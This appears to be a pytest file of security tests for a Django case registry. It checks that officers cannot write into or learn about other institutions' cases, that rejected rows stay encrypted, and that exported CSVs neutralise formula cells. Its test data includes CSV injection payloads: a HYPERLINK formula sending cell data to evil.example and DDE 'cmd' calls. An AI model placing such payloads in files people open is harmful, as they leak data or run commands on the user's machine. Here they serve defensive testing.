"""The probe's attacks on imports (issue 15, F1 F2 F4): rows of other institutions, rejected
rows seen by the wrong institution or kept in clear, formula cells in written files."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from django.db import connection
from hostile_files import workbook

from nanduti.registry.importer import import_file
from nanduti.registry.keys import rotate_all
from nanduti.registry.models import Case, ImportBatch, RejectedRow, Victim

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(autouse=True)
def private_var_dir(settings, tmp_path):
    settings.VAR_DIR = tmp_path / "var"


@pytest.fixture
def minna_case(tmp_path, institutions):
    """A MINNA case with one victim, imported by MINNA itself."""
    path = tmp_path / "minna.csv"
    path.write_text(
        "institucion,referencia_caso,anio,sexo,edad,nombre_victima\n"
        "MINNA,DEMO-MINNA-2019-00000001,2019,F,15,Ana Real\n",
        encoding="utf-8",
    )
    assert import_file(path).stored == 1
    return Case.objects.get(reference="DEMO-MINNA-2019-00000001")


TITLE_THEN_HEADER = (
    "Planilla de casos de la Policía Nacional 2024\n"
    "institucion,referencia_caso,anio,sexo,edad,nombre_victima\n"
    "minna,{reference},2023,M,30,INTRUSO POLICIA\n"
    "MINNA,NUEVO-EN-MINNA,2023,M,30,INTRUSO POLICIA\n"
    "mp_ufetesi,NUEVO-EN-FISCALIA,2023,M,30,INTRUSO POLICIA\n"
    "UFETESI,PROPIO-1,2023,F,16,Propia\n"
)
XLSFORM = (
    "_uuid,grupo/institucion,grupo/referencia_caso,grupo/anio,grupo_victima/nombre_victima\n"
    "u1,minna,{reference},2023,INTRUSO POLICIA\n"
    "u2,UFETESI,PROPIO-1,2023,Propia\n"
)


@pytest.mark.parametrize("layout", ["title line", "xlsform", "xlsx with title"])
@pytest.mark.django_db
def test_web_import_never_writes_into_another_institution(
    client, web_upload, officer, minna_case, layout, make_user
):
    """F1: an officer's file naming MINNA's case (a title line first, XLSForm group names,
    or an XLSX) stores nothing in MINNA, leaves its victims alone, stores the own row."""
    reference = minna_case.reference
    if layout == "xlsform":
        content, name = XLSFORM.format(reference=reference).encode(), "kobo.csv"
    else:
        content, name = TITLE_THEN_HEADER.format(reference=reference).encode(), "casos.csv"
    if layout == "xlsx with title":
        rows = [line.split(",") for line in content.decode().splitlines()]
        content, name = workbook(rows), "casos.xlsx"
    minna_cases = set(
        Case.objects.filter(institution__code="MINNA").values_list("id", "updated_at")
    )
    client.force_login(officer)
    response = web_upload(content, name)
    html = response.content.decode()
    assert response.status_code == 200, html
    assert set(Case.objects.filter(institution__code="MINNA").values_list("id", "updated_at")) == (
        minna_cases
    )
    assert list(minna_case.victims.values_list("full_name", flat=True)) == ["Ana Real"]
    assert not Case.objects.exclude(institution__code__in=("MINNA", "UFETESI")).exists()
    assert list(
        Case.objects.filter(institution__code="UFETESI").values_list("reference", flat=True)
    ) == ["PROPIO-1"]
    assert "otra institución" in html
    assert all(
        "another institution" in r.errors[0]["message_en"] for r in RejectedRow.objects.all()
    )
    # Every batch of this upload is the officer's: nothing of it shows in MINNA's list.
    assert set(
        ImportBatch.objects.filter(created_by=officer).values_list("institution__code", flat=True)
    ) == {"UFETESI"}
    client.force_login(make_user("minna_officer", institution=minna_case.institution))
    assert "INTRUSO" not in client.get("/importar/").content.decode()


@pytest.mark.django_db
def test_a_rejected_foreign_row_does_not_tell_whether_its_reference_exists(
    tmp_path, officer, minna_case
):
    """F1: the answer for an existing MINNA reference and for an invented one is the same."""
    answers = []
    for reference in (minna_case.reference, "DEMO-MINNA-2019-99999999"):
        path = tmp_path / f"{reference}.csv"
        path.write_text(f"institucion,referencia_caso,anio\nMINNA,{reference},2023\n")
        report = import_file(path, user=officer).as_dict()
        for key in ("batch_id", "batch_ids", "sha256", "raw_path", "rejects_path"):
            report.pop(key)
        answers.append(str(report).replace(reference, "REF"))
    assert answers[0] == answers[1]
    assert "'stored': 0, 'updated': 0, 'unchanged': 0, 'rejected': 1" in answers[0]
    batches = list(ImportBatch.objects.filter(created_by=officer).order_by("pk"))
    assert [(b.stored, b.updated, b.rejected) for b in batches] == [(0, 0, 1), (0, 0, 1)]


@pytest.mark.django_db
def test_an_officer_cannot_name_another_institution_in_the_library_either(
    tmp_path, officer, institutions
):
    path = tmp_path / "c.csv"
    path.write_text("referencia_caso,anio\nX-1,2023\n", encoding="utf-8")
    report = import_file(path, institution="MINNA", user=officer)
    assert "solo puede importar" in report.fatal and "only import" in report.fatal
    assert not Case.objects.exists()


MIXED = (
    "institucion,referencia_caso,anio,sexo,edad,nombre_victima,documento_victima,telefono_victima\n"
    "UFETESI,U-1,2023,F,15,Ufe Buena,1111111,0981111111\n"
    "UFETESI,U-2,2023,zzz,15,Ufe Rechazada,2222222,0982222222\n"
    "MINNA,M-1,2023,F,15,Minna Buena,3333333,0983333333\n"
    "MINNA,M-2,2023,zzz,15,Minna Rechazada,4444444,0984444444\n"
    "INVENTADA,I-1,2023,F,15,Sin Institucion,5555555,0985555555\n"
)


@pytest.mark.django_db
def test_a_multi_institution_import_makes_one_batch_per_institution(
    tmp_path, client, officer, other_officer
):
    """F2: a steward's CLI import of two institutions' rows; each institution's officers see
    only their own rejected rows, and the stored cells are encrypted."""
    path = tmp_path / "todas.csv"
    path.write_text(MIXED, encoding="utf-8")
    call_command("import", str(path), stdout=io.StringIO())
    batches = {b.institution.code if b.institution else None: b for b in ImportBatch.objects.all()}
    assert set(batches) == {"UFETESI", "MINNA", None}
    assert [(b.stored, b.rejected) for b in (batches["UFETESI"], batches["MINNA"])] == [
        (1, 1),
        (1, 1),
    ]
    for case in Case.objects.all():
        assert case.import_batch.institution_id == case.institution_id
    assert batches[None].rejected == 1  # an unknown institution: seen by no institution

    client.force_login(other_officer)  # MINNA
    mine = client.get(f"/importar/{batches['MINNA'].pk}/rechazos.csv").content.decode("utf-8-sig")
    assert "Minna Rechazada" in mine and "Ufe" not in mine
    for code in ("UFETESI", None):
        assert client.get(f"/importar/{batches[code].pk}/rechazos.csv").status_code == 404
        assert client.get(f"/importar/{batches[code].pk}/").status_code == 404
    client.force_login(officer)
    theirs = client.get(f"/importar/{batches['UFETESI'].pk}/").content.decode()
    assert "Minna" not in theirs and "4444444" not in theirs

    with connection.cursor() as cursor:
        cursor.execute("SELECT raw, errors FROM registry_rejectedrow")
        stored = cursor.fetchall()
    assert len(stored) == 3
    for raw, errors in stored:
        assert raw.startswith("gAAAA") and errors.startswith("gAAAA")
        assert "Rechazada" not in raw + errors and "4444444" not in raw + errors
    assert RejectedRow.objects.get(batch=batches["MINNA"]).raw["documento_victima"] == "4444444"
    assert "ImportBatch" not in str(batches["MINNA"].report)
    assert "Ufe" not in str(batches["MINNA"].report)


@pytest.mark.django_db
def test_key_rotation_covers_rejected_rows(tmp_path, settings, institutions):
    from cryptography.fernet import Fernet

    path = tmp_path / "todas.csv"
    path.write_text(MIXED, encoding="utf-8")
    import_file(path)
    old = settings.FIELD_ENCRYPTION_KEYS
    settings.FIELD_ENCRYPTION_KEYS = [Fernet.generate_key().decode(), *old]
    counts = rotate_all()
    assert counts["registry.RejectedRow"] == 2 * RejectedRow.objects.count()
    settings.FIELD_ENCRYPTION_KEYS = settings.FIELD_ENCRYPTION_KEYS[:1]  # old key dropped
    names = {r.raw["nombre_victima"] for r in RejectedRow.objects.all()}
    assert names == {"Ufe Rechazada", "Minna Rechazada", "Sin Institucion"}
    assert Victim.objects.count() == 2


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _formula_cells(rows: list[list[str]]) -> list[str]:
    def number(cell: str) -> bool:
        try:
            float(cell)
            return True
        except ValueError:
            return False

    return [c for row in rows for c in row if c.startswith(FORMULA_STARTS) and not number(c)]


@pytest.mark.django_db
def test_the_cli_rejects_file_neutralises_formula_cells(tmp_path, institutions):
    """F4: the CLI's rejects file, like the web download and exports, neutralises them; the
    fixed file imports back with the cells as they were written."""
    path = tmp_path / "formulas.csv"
    rejects = tmp_path / "rechazos.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["referencia_caso", "anio", "sexo", "resumen", "nombre_victima"])
        for n, formula in enumerate(FORMULAS):
            writer.writerow([f"F-{n}", "2023", "zzz", formula, formula])
    call_command(
        "import", str(path), institution="UFETESI", rejects=str(rejects), stdout=io.StringIO()
    )
    with open(rejects, encoding="utf-8-sig", newline="") as fh:
        written = list(csv.reader(fh))
    assert len(written) == 1 + len(FORMULAS)
    assert _formula_cells(written) == []
    assert {row[3] for row in written[1:]} == {"'" + f for f in FORMULAS}

    fixed = tmp_path / "corregido.csv"
    with open(fixed, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(
            [written[0][:5], *([*row[:2], "F", *row[3:5]] for row in written[1:])]
        )
    assert import_file(fixed, institution="UFETESI").stored == len(FORMULAS)
    assert set(Case.objects.values_list("summary", flat=True)) == set(FORMULAS)


@pytest.mark.django_db
def test_statistics_and_study_table_csvs_neutralise_formula_cells():
    from nanduti.stats.study_tables import as_csv

    text = as_csv(
        [{"number": 1, "title": "=1+1", "header": [["a", "@b"]], "rows": [["+c", "-1", "7"]]}]
    )
    rows = list(csv.reader(io.StringIO(text)))
    assert _formula_cells(rows) == []
    assert ["'+c", "-1", "7"] in rows
